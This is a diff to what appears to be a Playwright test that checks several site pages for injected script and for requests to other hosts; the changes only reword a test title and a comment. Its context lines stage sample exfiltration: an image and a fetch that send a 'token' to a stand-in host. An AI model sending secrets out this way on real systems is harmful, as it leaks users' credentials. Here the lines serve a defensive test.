@@ -15,7 +15,7 @@ const refusedOn = (page: Page) =>
   page.evaluate(() => (globalThis as unknown as { refused: string[] }).refused);
 
 for (const path of ['/', '/store', '/app/login', '/offline.html', '/api/docs']) {
-  test(`${path} runs no script that somebody got into it, and sends nothing elsewhere`, async ({
+  test(`${path} runs no injected script, and sends nothing to other hosts`, async ({
     page,
     expectProblems,
   }) => {
@@ -41,7 +41,7 @@ for (const path of ['/', '/store', '/app/login', '/offline.html', '/api/docs']) 
       add('iframe', { src: 'https://elsewhere.example/' });
       add('img', { src: 'https://elsewhere.example/?token' });
       await fetch('https://elsewhere.example/?token').catch(() => undefined);
-      // Later, as the browser lets its debugger evaluate what it likes.
+      // Later, because the browser lets its debugger evaluate anything.
       return new Promise<string>((resolve) => {
         setTimeout(() => {
           try {
